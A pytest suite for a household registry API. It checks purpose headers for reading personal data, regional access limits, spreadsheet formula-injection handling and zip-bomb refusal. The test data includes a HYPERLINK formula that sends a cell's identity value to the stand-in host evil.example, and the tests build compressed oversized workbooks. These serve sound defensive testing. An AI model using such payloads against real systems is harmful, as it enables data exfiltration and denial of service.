"""The registry keeps to the caller's regions and keeps its numbers: issue 11's registry findings,
through the real API, on a real database."""

from __future__ import annotations

import asyncio
import io
import re
import zipfile
from collections.abc import Callable
from datetime import date
from urllib.parse import quote

import httpx
from openpyxl import Workbook, load_workbook
from sqlalchemy import event

from services.registry.app import create_app
from services.registry.settings import RegistrySettings
from services.registry.spreadsheets import COLUMNS
from shared.migrations import alembic_config
from tests.conftest import running
from tests.helpers import bearer, household_body, identity_number
from tests.services.registry.test_api import Walk, file_household
from tests.services.registry.test_excel import ledger, row, upload

PROBLEM = "application/problem+json"
READ = ("registry:read",)
PII = ("registry:read", "pii:read")
FORMULAS = ['=HYPERLINK("http://evil.example/?"&G2,"点击")', "+1+1", "-2+3", "@SUM(1)", "\t=1"]


async def file_in(
    registry: httpx.AsyncClient, token: Callable[..., str], region: str, serial: int = 123
) -> str:
    response = await registry.post(
        "/v1/households",
        json=household_body(region, head_number=identity_number(region=region, serial=serial)),
        headers=bearer(token("registry:write", regions=[region[:4]])),
    )
    assert response.status_code == 201, response.text
    return str(response.json()["id"])


class TestPurpose:
    async def test_a_clear_read_without_a_purpose_is_refused_naming_the_header(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        household_id = (await file_household(registry, token)).json()["id"]
        url = f"/v1/households/{household_id}"
        refused = await registry.get(url, headers=bearer(token(*PII)))
        assert refused.status_code == 400
        assert refused.headers["content-type"] == PROBLEM
        assert refused.json()["type"].endswith("/purpose-required")
        assert "Bangfu-Purpose" in refused.json()["detail"]
        assert identity_number() not in refused.text
        read = await registry.get(
            url, headers={**bearer(token(*PII)), "Bangfu-Purpose": quote("复核")}
        )
        assert read.json()["members"][0]["identity_number"] == identity_number()
        assert read.json()["members"][0]["birth_date"] == "1980-05-17"
        masked = await registry.get(url, headers=bearer(token(*READ)))
        assert masked.status_code == 200

    async def test_a_clear_ledger_export_without_a_purpose_is_refused(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        await file_household(registry, token)
        refused = await registry.get("/v1/exports/ledger", headers=bearer(token(*PII)))
        assert refused.status_code == 400
        assert "Bangfu-Purpose" in refused.json()["detail"]
        exported = await registry.get(
            "/v1/exports/ledger",
            headers={**bearer(token(*PII)), "Bangfu-Purpose": quote("年度复核")},
        )
        assert exported.status_code == 200
        rows = list(load_workbook(io.BytesIO(exported.content)).active.iter_rows(values_only=True))
        assert rows[1][6] == identity_number()


class TestFilingConflict:
    async def test_a_person_filed_in_another_region_is_named_by_province_only(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        person = identity_number(region="110105", serial=7)  # born in Beijing, filed in 4201
        elsewhere = await registry.post(
            "/v1/households",
            json=household_body("420102", head_number=person),
            headers=bearer(token("registry:write", regions=["4201"])),
        )
        assert elsewhere.status_code == 201, elsewhere.text
        other_id = elsewhere.json()["id"]
        refused = await registry.post(
            "/v1/households",
            json=household_body(
                members=[{"name": "王五", "relation": "other", "identity_number": person}]
            ),
            headers=bearer(token("registry:write", regions=["4113"])),
        )
        assert refused.status_code == 409
        assert refused.headers["content-type"] == PROBLEM
        assert other_id not in refused.text
        assert "household_id" not in refused.json()
        assert "420102" not in refused.text and "4201" not in refused.text
        assert refused.json()["filed_in_province"] == "湖北省"
        assert "湖北省" in refused.json()["detail"]
        inside = await registry.post(
            "/v1/households",
            json=household_body(
                members=[{"name": "王五", "relation": "other", "identity_number": person}]
            ),
            headers=bearer(token("registry:write", regions=["4113", "4201"])),
        )
        assert inside.status_code == 409
        assert inside.json()["household_id"] == other_id
        report = (
            await upload(registry, token, ledger([row("A", 1, 身份证号=person)]), regions=["4113"])
        ).json()
        assert report["errors"][0]["reason"] == "该人员已在湖北省的在册家庭中，请联系湖北省解困办"
        assert other_id not in str(report)


class TestConfinement:
    async def test_statistics_and_lists_count_only_the_callers_regions(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        await file_in(registry, token, "411302")
        await file_in(registry, token, "420102")
        mine = bearer(token(*READ, regions=["4113"]))
        for region in ("11", "42", "4201"):
            stats = (
                await registry.get("/v1/statistics", params={"region": region}, headers=mine)
            ).json()
            assert stats["counts"] == [] and stats["progress"] == [], region
            listed = (
                await registry.get("/v1/households", params={"region": region}, headers=mine)
            ).json()
            assert listed["items"] == [], region
        whole = (await registry.get("/v1/statistics", headers=mine)).json()
        assert [(c["region"], c["households"]) for c in whole["counts"]] == [("411302", 1)]
        parent = (
            await registry.get("/v1/statistics", params={"region": "41"}, headers=mine)
        ).json()
        assert [c["region"] for c in parent["counts"]] == ["411302"]

    async def test_a_token_without_regions_sees_nothing_anywhere(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        household_id = await file_in(registry, token, "411302")
        nowhere = bearer(token(*READ, "review:county", regions=[]))
        assert (
            await registry.get(f"/v1/households/{household_id}", headers=nowhere)
        ).status_code == 404
        assert (await registry.get("/v1/households", headers=nowhere)).json()["items"] == []
        stats = (await registry.get("/v1/statistics", headers=nowhere)).json()
        assert stats["counts"] == [] and stats["progress"] == [] and stats["overdue_visits"] == []
        assert (await registry.get("/v1/notices/4113", headers=nowhere)).status_code == 404
        exported = await registry.get("/v1/exports/ledger", headers=nowhere)
        assert len(list(load_workbook(io.BytesIO(exported.content)).active.iter_rows())) == 1
        target = await registry.put(
            f"/v1/targets/4113/{date.today().year}", json={"share_percent": 10}, headers=nowhere
        )
        assert target.status_code == 404

    async def test_targets_and_notices_of_another_region_are_not_found(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        await file_in(registry, token, "420102")
        county = bearer(token(*READ, "review:county", regions=["4113"]))
        target = await registry.put(
            f"/v1/targets/4201/{date.today().year}", json={"share_percent": 10}, headers=county
        )
        assert target.status_code == 404
        assert target.headers["content-type"] == PROBLEM
        assert "4201" not in target.json()["detail"]
        own = await registry.put(
            f"/v1/targets/411302/{date.today().year}", json={"share_percent": 10}, headers=county
        )
        assert own.status_code == 200
        notice = await registry.get("/v1/notices/420102", headers=county)
        assert notice.status_code == 404
        exported = await registry.get(
            "/v1/exports/ledger", params={"region": "4201"}, headers=county
        )
        assert len(list(load_workbook(io.BytesIO(exported.content)).active.iter_rows())) == 1


def _no_formulas(content: bytes) -> list[object]:
    """Every cell value of the workbook, after checking that none is a formula."""
    values = []
    for sheet in load_workbook(io.BytesIO(content)).worksheets:
        for cells in sheet.iter_rows():
            for cell in cells:
                assert cell.data_type != "f", f"{cell.coordinate} is a formula: {cell.value!r}"
                values.append(cell.value)
    return values


class TestFormulas:
    async def test_exported_text_that_looks_like_a_formula_stays_text(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        ids = []
        for serial, address in enumerate(FORMULAS, start=1):
            body = household_body(head_number=identity_number(serial=serial))
            body["location"] = {"region": "411302", "address": address}  # type: ignore[index]
            filed = await registry.post(
                "/v1/households", json=body, headers=bearer(token("registry:write"))
            )
            assert filed.status_code == 201, filed.text
            ids.append(filed.json()["id"])
        walk = Walk(registry, token, ids[0])
        await walk.step("community_review", "review:community")
        planned = await registry.put(
            f"/v1/households/{ids[0]}/plan",
            json={
                "measures": [{"group": "employment", "measure": "=1+1", "lead_department": "@人社"}]
            },
            headers={**bearer(token("registry:write")), "If-Match": walk.etag},
        )
        assert planned.status_code == 200, planned.text
        exported = await registry.get("/v1/exports/ledger", headers=bearer(token(*READ)))
        values = _no_formulas(exported.content)
        assert all(f.strip("\t") in {str(v).strip("\t") for v in values} for f in FORMULAS)
        card = await registry.get(
            f"/v1/households/{ids[0]}/card.xlsx", headers=bearer(token(*READ))
        )
        card_values = _no_formulas(card.content)
        assert {FORMULAS[0], "=1+1", "@人社"} <= set(card_values)

    async def test_an_imported_cell_that_would_run_as_a_formula_is_refused(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        book = Workbook()
        sheet = book.active
        sheet.append(list(COLUMNS))
        sheet.append(row("A", 1, 地址="建设路1号"))
        sheet.append(row("B", 2, 地址="x"))
        sheet["C3"].value = FORMULAS[0]
        sheet["C3"].data_type = "s"  # text, as a spreadsheet typed with a leading = stores it
        sheet.append(row("C", 3, 地址="=A1&B1"))  # a real formula cell
        buffer = io.BytesIO()
        book.save(buffer)
        report = (await upload(registry, token, buffer.getvalue())).json()
        assert report["imported"].keys() == {"A"}
        assert {(e["household"], e["column"]) for e in report["errors"]} == {
            ("B", "地址"),
            ("C", "地址"),
        }
        assert all("公式" in e["reason"] for e in report["errors"])


def _rezip(content: bytes, replace: dict[str, bytes]) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(content))
    replace = dict(replace)
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            target.writestr(name, replace.pop(name, None) or source.read(name))
        for name, data in replace.items():  # new parts
            target.writestr(name, data)
    return out.getvalue()


class TestLedgerBombs:
    async def test_a_highly_compressed_huge_sheet_is_refused_before_it_is_opened(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        good = ledger([row("A", 1)])
        sheet = zipfile.ZipFile(io.BytesIO(good)).read("xl/worksheets/sheet1.xml")
        huge = sheet.replace(b"</sheetData>", b" " * (80 * 1024 * 1024) + b"</sheetData>")
        bomb = _rezip(good, {"xl/worksheets/sheet1.xml": huge})
        assert len(bomb) < 1024 * 1024
        refused = await upload(registry, token, bomb)
        assert refused.status_code == 413
        assert refused.headers["content-type"] == PROBLEM
        assert refused.json()["type"].endswith("/ledger-too-large")

    async def test_a_declared_dimension_of_the_whole_grid_is_refused(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        good = ledger([row("A", 1)])
        sheet = zipfile.ZipFile(io.BytesIO(good)).read("xl/worksheets/sheet1.xml")
        wide = re.sub(rb'<dimension ref="[^"]*"\s*/>', b'<dimension ref="A1:XFD1048576"/>', sheet)
        assert wide != sheet
        refused = await upload(registry, token, _rezip(good, {"xl/worksheets/sheet1.xml": wide}))
        assert refused.status_code == 413
        assert "A1:XFD1048576" in refused.json()["detail"]

    async def test_too_many_shared_strings_are_refused(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        good = ledger([row("A", 1)])
        many = 300_000
        strings = (
            b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
            + f'count="{many}" uniqueCount="{many}">'.encode()
            + b"<si><t>a</t></si>" * many
            + b"</sst>"
        )
        package = zipfile.ZipFile(io.BytesIO(good))
        rels = package.read("xl/_rels/workbook.xml.rels").replace(
            b"</Relationships>",
            b'<Relationship Id="rIdStrings" Target="sharedStrings.xml" Type="http://schemas.'
            b'openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/>'
            b"</Relationships>",
        )
        bigger = _rezip(good, {"xl/_rels/workbook.xml.rels": rels, "xl/sharedStrings.xml": strings})
        refused = await upload(registry, token, bigger)
        assert refused.status_code == 413
        assert "shared strings" in refused.json()["detail"]


class TestBounds:
    async def test_the_ledger_export_pages_with_one_query_per_page(
        self, registry_settings: RegistrySettings, token: Callable[..., str]
    ) -> None:
        app = create_app(registry_settings)
        async with running(app) as registry:
            for serial in range(1, 6):
                await file_in(registry, token, "411302", serial=serial)
            statements: list[str] = []
            engine = app.state.runtime.db.engine.sync_engine
            # The export's own statements: not those of the relay, consumers or DCI deliveries
            # running beside it in their own tasks (the registry consumes its own events).
            exporting = asyncio.current_task()

            def count(*args: object) -> None:
                if asyncio.current_task() is exporting:
                    statements.append(str(args[2]))

            # A first export opens the pool's connections (PostgreSQL's setup statements).
            await registry.get("/v1/exports/ledger", headers=bearer(token(*READ)))
            event.listen(engine, "before_cursor_execute", count)
            try:
                first = await registry.get(
                    "/v1/exports/ledger", params={"limit": 2}, headers=bearer(token(*READ))
                )
                queries_for_two = len(statements)
                statements.clear()
                everything = await registry.get(
                    "/v1/exports/ledger", params={"limit": 5}, headers=bearer(token(*READ))
                )
                queries_for_five = len(statements)
            finally:
                event.remove(engine, "before_cursor_execute", count)
            assert queries_for_five == queries_for_two
            rows = list(load_workbook(io.BytesIO(first.content)).active.iter_rows(values_only=True))
            assert len(rows) == 3
            link = first.headers["link"]
            assert 'rel="next"' in link
            seen = {r[0] for r in rows[1:]}
            while "link" in first.headers:
                link = first.headers["link"]
                next_url = link[link.index("<") + 1 : link.index(">")]
                first = await registry.get(next_url, headers=bearer(token(*READ)))
                more = load_workbook(io.BytesIO(first.content)).active.iter_rows(values_only=True)
                seen |= {r[0] for r in list(more)[1:]}
            assert len(seen) == 5
            assert "link" not in everything.headers
            too_many = await registry.get(
                "/v1/exports/ledger", params={"limit": 100_000}, headers=bearer(token(*READ))
            )
            assert too_many.status_code == 422

    async def test_the_public_notice_pages_and_says_how_many_there_are(
        self, registry: httpx.AsyncClient, token: Callable[..., str]
    ) -> None:
        for serial in range(1, 4):
            household_id = await file_in(registry, token, "411302", serial=serial)
            walk = Walk(registry, token, household_id)
            await walk.step("community_review", "review:community")
            await walk.plan()
            await walk.step("street_review", "review:street")
            await walk.step("county_approve", "review:county")
            await walk.step("start_notice", "review:county")
        reader = bearer(token(*READ))
        first = (await registry.get("/v1/notices/4113", params={"limit": 2}, headers=reader)).json()
        assert len(first["noticed"]) == 2
        assert first["total_noticed"] == 3
        assert first["next_cursor"]
        assert first["open_objections"] == [] and first["open_objections_truncated"] is False
        rest = (
            await registry.get(
                "/v1/notices/4113",
                params={"limit": 2, "cursor": first["next_cursor"]},
                headers=reader,
            )
        ).json()
        assert len(rest["noticed"]) == 1 and rest["next_cursor"] is None
        seen = {n["household_id"] for n in first["noticed"] + rest["noticed"]}
        assert len(seen) == 3
        assert (
            await registry.get("/v1/notices/4113", params={"limit": 5000}, headers=reader)
        ).status_code == 422


class TestMaskMigration:
    async def test_stored_masks_of_the_former_form_are_rewritten(
        self, registry_settings: RegistrySettings, token: Callable[..., str]
    ) -> None:
        from alembic import command
        from sqlalchemy import select, text, update

        from services.registry import store
        from shared.db import Database

        child = identity_number(serial=125)
        async with running(create_app(registry_settings)) as registry:
            household_id = (await file_household(registry, token)).json()["id"]
            added = await registry.post(
                f"/v1/households/{household_id}/members",
                json={"name": "张小明", "relation": "child", "identity_number": child},
                headers={**bearer(token("registry:write")), "If-Match": '"1"'},
            )
            assert added.status_code == 201, added.text
        url, schema = registry_settings.database
        db = Database(url, schema=schema)
        former = identity_number()[:6] + "*" * 8 + identity_number()[-4:]
        line = {"field": "members", "old": None, "new": f"张*明 {child[:6]}{'*' * 8}{child[-4:]}"}
        async with db.sessionmaker() as session:
            await session.execute(text("UPDATE member SET identity_masked = :m"), {"m": former})
            await session.execute(
                text("UPDATE household SET head_identity_masked = :m"), {"m": former}
            )
            await session.execute(
                update(store.history)
                .where(store.history.c.action == "member_added")
                .values(changes=[line])
            )
            await session.execute(
                update(store.household).values(verification={"discrepancies": [{"member": former}]})
            )
            await session.commit()
        config = alembic_config("registry", url=url, schema=schema)
        await asyncio.to_thread(command.downgrade, config, "registry_0001")
        await asyncio.to_thread(command.upgrade, config, "head")
        async with db.sessionmaker() as session:
            masks = set((await session.execute(select(store.member.c.identity_masked))).scalars())
            heads = set(
                (await session.execute(select(store.household.c.head_identity_masked))).scalars()
            )
            [summary] = (await session.execute(select(store.household.c.verification))).scalars()
            [changes] = (
                await session.execute(
                    select(store.history.c.changes).where(store.history.c.action == "member_added")
                )
            ).scalars()
        await db.dispose()
        assert masks == heads == {identity_number()[:6] + "*" * 11 + identity_number()[-1]}
        assert changes == [{**line, "new": f"张*明 {child[:6]}{'*' * 11}{child[-1]}"}]
        assert summary == {"discrepancies": [{"member": next(iter(masks))}]}
